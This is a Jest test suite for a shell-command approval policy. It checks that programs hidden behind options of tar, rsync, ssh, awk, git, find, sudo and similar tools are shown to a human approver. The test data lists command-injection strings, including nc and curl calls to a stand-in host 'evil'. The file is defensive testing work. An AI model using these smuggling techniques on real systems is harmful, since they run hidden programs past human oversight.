import { describe, expect, it } from '@jest/globals';
import { decideShellApproval } from './shell-approval-policy.js';
import { parseShellCommand } from './shell-command-parser.js';

/** The decision on a command, as the approver sees it. */
const decide = (command: string) => decideShellApproval(parseShellCommand(command));

describe('programs run through options are shown before approval', () => {
  // Each hostile command hides a program (`touch pwned` or similar) behind an option of another one.
  const hidden: Array<[string, string, string]> = [
    ['tar -xf a.tar --to-command="touch pwned"', 'touch', 'tar --to-command'],
    ['tar --use-compress-program "sh -c id" -xf a.tar', 'id', 'tar --use-compress-program'],
    ['tar -I "touch pwned" -cf a.tar .', 'touch', 'tar -I'],
    [
      'tar -cf a.tar --checkpoint=1 --checkpoint-action=exec="touch pwned" .',
      'touch',
      'tar --checkpoint-action=exec',
    ],
    ['rsync -e "touch pwned" a host:b', 'touch', 'rsync -e'],
    ['rsync --rsh="curl evil" a host:b', 'curl', 'rsync --rsh'],
    ['ssh -o ProxyCommand="touch pwned" host', 'touch', 'ssh -o ProxyCommand'],
    ['ssh -oProxyCommand=nc\\ evil\\ 22 host', 'nc', 'ssh -o ProxyCommand'],
    ['scp -S "touch pwned" a host:b', 'touch', 'scp -S'],
    [`awk 'BEGIN { system("touch pwned") }'`, 'touch', 'awk system()'],
    [`awk '{ print | "sh -c id" }' file`, 'id', 'awk pipe'],
    [`gawk 'BEGIN { "curl evil" | getline x }'`, 'curl', 'gawk pipe'],
    ['find . -name "*.c" -exec rm {} ;', 'rm', 'find -exec'],
    ['find . -execdir sh -c "touch pwned" ;', 'touch', 'find -execdir'],
    ['git fetch --upload-pack="touch pwned" origin', 'touch', 'git fetch --upload-pack'],
    ['git rebase --exec "touch pwned" main', 'touch', 'git rebase --exec'],
    ['zip -T -TT "touch pwned" a.zip b', 'touch', 'zip -TT'],
    ['man -P "touch pwned" ls', 'touch', 'man -P'],
    ['sudo -u root touch pwned', 'touch', 'sudo'],
    ['doas touch pwned', 'touch', 'doas'],
    ['watch -n 1 touch pwned', 'touch', 'watch'],
    ['flock /tmp/lock touch pwned', 'touch', 'flock'],
    ['flock -x lock -c "touch pwned"', 'touch', 'flock -c'],
    ['strace -f -o log touch pwned', 'touch', 'strace'],
    ['parallel touch ::: pwned', 'touch', 'parallel'],
    ['xargs -a list touch', 'touch', 'xargs'],
    ['cat $(touch pwned)', 'touch', ''],
  ];
  it.each(hidden)('%s shows %s', (command, program, via) => {
    const decision = decide(command);
    expect(decision.approval).not.toBe('never');
    expect(decision.programs.some((shown) => shown.startsWith(program))).toBe(true);
    if (via) expect(decision.programs.join(' ') + decision.reasons.join(' ')).toContain(via);
  });

  const opaque: Array<[string, RegExp]> = [
    [`awk '{ system($0) }' file`, /builds at run time/],
    ['awk -f prog.awk file', /read from a file/],
    ['git st', /may be an alias/],
    ['git -c core.pager="touch pwned" log', /core\.pager runs a program/],
    ['git -c alias.x="!touch pwned" x', /alias\.x runs a program/],
    ['git -c core.fsmonitor=./hook status', /core\.fsmonitor/],
    ['vim -c "!touch pwned" file', /vim commands can run programs/],
    ['less file', /less can run any program/],
    ['ssh -F ./config host', /ProxyCommand/],
    ['tar --to-command="$CMD" -xf a.tar', /decided at run time/],
  ];
  it.each(opaque)('%s needs a person and says why', (command, why) => {
    const decision = decide(command);
    expect(decision.approval).not.toBe('never');
    expect(decision.reasons.join('; ')).toMatch(why);
  });

  it('keeps read-only commands free and their benign look-alikes unchanged', () => {
    for (const command of [
      'git status',
      'git diff HEAD~1',
      'git log --oneline',
      'find . -name "*.ts"',
      'ls -la',
      'grep -r "a|b" src',
    ]) {
      expect(decide(command)).toMatchObject({ approval: 'never', reasons: [] });
    }
    expect(decide(`awk '{ print $1 || $2 }' file`).reasons.join(' ')).not.toMatch(/builds at run time/);
    expect(decide('tar -tf a.tar').programs).toEqual(['tar']);
  });
});
